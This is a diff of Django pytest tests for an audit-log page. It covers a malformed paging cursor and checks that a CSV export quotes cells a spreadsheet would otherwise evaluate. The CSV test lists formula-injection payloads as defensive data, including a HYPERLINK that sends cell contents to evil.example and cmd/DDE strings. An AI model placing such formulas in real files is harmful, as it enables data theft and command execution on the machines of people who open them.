@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
+import json
 from datetime import timedelta
 
 import pytest
@@ -11,6 +13,7 @@ from django.http import StreamingHttpResponse
 from django.utils import timezone
 
 from audit.models import Category
+from audit.services import audit_event_record
 from smtp.models import Email, EmailAttempt, EmailKind, EmailStatus
 
 pytestmark = pytest.mark.django_db
@@ -65,6 +68,15 @@ def test_a_bad_custom_time_shows_a_message(demo, login):
     response = login(demo["prod_admin"]).get(WEB, {"range": "custom", "from": "soon"})
     assert response.status_code == 200
     assert "timefrom: &#x27;soon+00:00&#x27; is not a time" in response.content.decode()
+
+
+def test_a_hand_made_cursor_outside_the_calendar_shows_a_message(demo, login):
+    # Found by an outside review: a cursor of year 9999 at -01:00 was a 500.
+    cursor = base64.urlsafe_b64encode(b"9999-12-31T23:59:59-01:00|5").decode()
+    response = login(demo["prod_admin"]).get(WEB, {"cursor": cursor.rstrip("=")})
+    assert response.status_code == 200
+    assert "cursor is not a cursor this API gave" in response.content.decode()
+    assert 'class="event"' not in response.content.decode()
 
 
 def test_paging_with_older_links(demo, login, make_events):
@@ -204,6 +216,56 @@ def test_the_org_export_is_scoped_to_the_organization(demo, login, make_events):
     )
     assert len(rows) == 3
     assert {r["organization"] for r in rows} == {"acme-dev"}
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_that_spreadsheets_would_run_are_quoted(demo, login, hostile):
+    # given: tenant-controlled text at the start of the summary and actor cells
+    audit_event_record(
+        category=Category.AUDIT,
+        type="user.password_set",
+        summary=hostile,
+        actor=hostile,
+        partner_id=demo["acme"].pk,
+        organization_id=demo["acme-prod"].pk,
+        detail={"recipient": hostile},
+    )
+    audit_event_record(
+        category=Category.AUDIT,
+        type="user.password_set",
+        summary="Plain summary",
+        actor="org-admin@acme-prod.example",
+        partner_id=demo["acme"].pk,
+        organization_id=demo["acme-prod"].pk,
+    )
+    # when
+    rows = read_csv(
+        login(demo["prod_admin"]).get(WEB + "export.csv", {"category": "AUDIT"})
+    )
+    # then: the hostile cells are text (a leading quote), the others unchanged
+    by_summary = {row["summary"]: row for row in rows}
+    quoted = by_summary["'" + hostile]
+    assert quoted["actor"] == "'" + hostile
+    assert json.loads(quoted["detail"]) == {"recipient": hostile}
+    plain = by_summary["Plain summary"]
+    assert plain["actor"] == "org-admin@acme-prod.example"
+    assert plain["type"] == "user.password_set"
+    assert plain["organization"] == "acme-prod"
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for row in rows
+        for cell in row.values()
+    )
 
 
 def test_the_audit_pages_belong_to_their_consoles(demo, login):
